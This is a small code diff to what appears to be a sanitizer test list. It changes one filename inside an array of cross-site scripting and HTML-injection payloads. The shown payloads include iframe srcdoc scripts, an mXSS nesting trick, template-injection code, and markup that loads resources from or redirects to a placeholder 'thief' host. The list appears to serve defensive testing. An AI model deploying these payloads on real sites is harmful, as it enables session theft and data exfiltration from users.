@@ -25,7 +25,7 @@ const ours: readonly string[] = [
   `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
   `<form action="${thief}/"><input name=password autofocus onfocus=${run}></form>`,
-  `<img src="${thief}/pixel.png"><video src="${thief}/film.mp4" autoplay></video>`,
+  `<img src="${thief}/pixel.png"><video src="${thief}/video.mp4" autoplay></video>`,
   `<style>@import "${thief}/all.css"; body{background:url(${thief}/pixel.png)}</style>`,
   `<base href="${thief}/"><meta http-equiv="refresh" content="0;url=${thief}/">`,
   `{{constructor.constructor('${run}')()}}`,
